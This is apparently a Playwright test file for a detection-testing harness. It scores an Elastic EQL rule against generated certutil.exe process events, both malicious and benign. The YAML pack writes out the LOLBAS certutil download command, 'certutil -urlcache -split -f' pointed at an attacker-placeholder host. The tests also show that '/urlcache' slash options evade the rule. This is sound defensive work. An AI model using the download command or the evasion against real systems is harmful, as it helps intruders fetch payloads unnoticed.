// A new technique from YAML alone: a detection engineer writes a pack (program, populations,
// scenarios with an evasion) and a rule for it in a temporary directory, runs `dth run --pack`, and
// gets recall and false positive rates per data source. No TypeScript is added.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import type { Report } from '../../reports/model.js';
import { dth } from '../support/cli.js';

// certutil.exe as a downloader (LOLBAS, https://lolbas-project.github.io/lolbas/Binaries/Certutil/):
// `certutil -urlcache -split -f <url> <file>`; administrators run `certutil -hashfile` and `-verify`.
const PACK = `name: certutil-download
description: certutil.exe used to download a payload, and the administrators who use it for hashes.
rules: [rule.toml]
programs:
  certutil:
    title: certutil.exe
    traits: [windows-argv, options-any-order, slash-options]
    check: { kind: documented, reference: "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil" }
populations:
  - id: certutil-urlcache-download
    title: certutil -urlcache -split -f downloads a payload
    label: malicious
    program: certutil
    summary: certutil.exe -urlcache -split -f http://<attacker>/<file> <path>
    sources: [{ title: "LOLBAS: Certutil", url: "https://lolbas-project.github.io/lolbas/Binaries/Certutil/", confidence: source }]
    windows:
      executable: 'C:\\Windows\\System32\\certutil.exe'
      args: [-urlcache, { optional: [-split], p: 0.7 }, -f, "http://{doc_ip}/{word}.exe", '{temp}\\{word}.exe']
      parents: [{ executable: 'C:\\Windows\\System32\\cmd.exe', args: [] }]
      pe: { originalFileName: CertUtil.exe, description: CertUtil.exe, product: Microsoft Windows Operating System, company: Microsoft Corporation }
  - id: certutil-admin-hash
    title: administrators hash files with certutil
    label: benign
    program: certutil
    summary: certutil -hashfile <file> SHA256
    sources: [{ title: "Microsoft Learn: certutil -hashfile", url: "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil", confidence: source }]
    windows:
      executable: 'C:\\Windows\\System32\\certutil.exe'
      args: [-hashfile, '{home}\\Downloads\\{word}.iso', SHA256]
      parents: [{ executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: [] }]
scenarios:
  - { id: certutil-download, title: certutil download, description: the LOLBAS form, label: malicious, techniques: [T1105], references: ["https://lolbas-project.github.io/lolbas/Binaries/Certutil/"], population: certutil-urlcache-download, os: [windows], count: 20 }
  - { id: certutil-download-slash, title: certutil download with /options, description: /urlcache instead of -urlcache, label: malicious, techniques: [T1105], references: ["https://lolbas-project.github.io/lolbas/Binaries/Certutil/"], population: certutil-urlcache-download, os: [windows], variants: [slash-options], count: 20 }
  - { id: certutil-download-copied, title: certutil copied elsewhere, description: renamed copy, label: malicious, techniques: [T1105, T1036.003], references: ["https://attack.mitre.org/techniques/T1036/003/"], population: certutil-urlcache-download, os: [windows], variants: [path-relocation], count: 20 }
  - { id: certutil-hash, title: admin hashing, description: benign, label: benign, techniques: [], references: ["https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil"], population: certutil-admin-hash, os: [windows], count: 20 }
`;

// A rule written for the technique, in detection-rules TOML as Elastic publishes its rules.
const RULE = `[metadata]
creation_date = "2026/01/01"
maturity = "development"
[rule]
author = ["detection-harness test"]
description = "certutil downloading with -urlcache"
index = ["logs-endpoint.events.process-*", "logs-windows.sysmon_operational-*"]
language = "eql"
license = "Elastic License v2"
name = "Certutil URL cache download (test)"
risk_score = 47
rule_id = "0d1e5b7e-3c1a-4b8e-9a55-6f0c2d7c9a11"
severity = "medium"
type = "eql"
query = '''
process where host.os.type == "windows" and event.type == "start" and
  process.name : "certutil.exe" and process.args : "-urlcache" and process.args : "-f"
'''
`;

test('a technique written only in YAML gets recall and FPR per data source for its rule', () => {
  const dir = mkdtempSync(join(tmpdir(), 'dth-yaml-technique-'));
  try {
    writeFileSync(join(dir, 'pack.yaml'), PACK);
    writeFileSync(join(dir, 'rule.toml'), RULE);
    const out = join(dir, 'out');
    const result = dth(['run', '--pack', join(dir, 'pack.yaml'), '--out', out, '--source', 'elastic-defend', '--source', 'windows-sysmon', '--source', 'system-security-4688']);
    expect(result.stderr).not.toContain('Error');
    expect(result.status, result.stdout + result.stderr).toBe(0);
    expect(result.stdout).toContain('Certutil URL cache download (test)');
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as Report;
    expect(report.rules.map((r) => r.id)).toEqual(['0d1e5b7e-3c1a-4b8e-9a55-6f0c2d7c9a11']);
    const cell = (scenarioId: string, dataSourceId: string) => {
      const found = report.ruleScenarioDataSource.find((c) => c.scenarioId === scenarioId && c.dataSourceId === dataSourceId);
      if (found === undefined) throw new Error(`no cell ${scenarioId} / ${dataSourceId}`);
      return found.metrics;
    };
    // Elastic Defend records every field the rule reads: the plain form is caught, the benign quiet,
    // /urlcache (accepted by certutil) evades the "-urlcache" match, a relocated copy keeps its name.
    expect(cell('certutil-download', 'elastic-defend').recall.value).toBe(1);
    expect(cell('certutil-download-slash', 'elastic-defend').recall.value).toBe(0);
    expect(cell('certutil-download-copied', 'elastic-defend').recall.value).toBe(1);
    expect(cell('certutil-hash', 'elastic-defend').falsePositiveRate.value).toBe(0);
    // Per data source: the 4688 index is not among the rule's index patterns, so it is never searched.
    const perSource = new Map(report.ruleDataSource.map((c) => [c.dataSourceId, c]));
    expect([...perSource.keys()].sort()).toEqual(['elastic-defend', 'system-security-4688', 'windows-sysmon']);
    // Recall over the three malicious scenarios (behaviours), not their 60 events: 2 of 3 caught.
    expect(perSource.get('elastic-defend')?.metrics.recall).toMatchObject({ k: 2, n: 3 });
    expect(perSource.get('elastic-defend')?.events.tp).toBe(40);
    expect(perSource.get('system-security-4688')?.metrics.recall.value).toBe(0);
    expect(report.blindSpots.some((b) => b.dataSourceId === 'system-security-4688' && b.kind === 'not-selected')).toBe(true);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a YAML population with a bad placeholder or an evasion its program rejects is bad input at file:line:column', () => {
  const dir = mkdtempSync(join(tmpdir(), 'dth-yaml-technique-'));
  try {
    const bad = PACK.replace('"http://{doc_ip}/{word}.exe"', '"http://{public_ip}/{word}.exe"').replace('variants: [slash-options]', 'variants: [attached-value]');
    writeFileSync(join(dir, 'pack.yaml'), bad);
    writeFileSync(join(dir, 'rule.toml'), RULE);
    const result = dth(['run', '--pack', join(dir, 'pack.yaml'), '--out', join(dir, 'out')]);
    expect(result.status).toBe(2);
    const line = PACK.split('\n').findIndex((l) => l.includes('{doc_ip}/{word}.exe')) + 1;
    expect(result.stderr).toMatch(new RegExp(`pack\\.yaml:${line}:\\d+: populations\\[0\\]\\.windows\\.args: unknown placeholder \\{public_ip\\}`));
    const variantLine = PACK.split('\n').findIndex((l) => l.includes('variants: [slash-options]')) + 1;
    expect(result.stderr).toMatch(new RegExp(`pack\\.yaml:${variantLine}:\\d+: scenarios\\[1\\]\\.variants\\[0\\]: evasion 'attached-value' needs a program whose parser accepts it \\(getopt\\)`));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
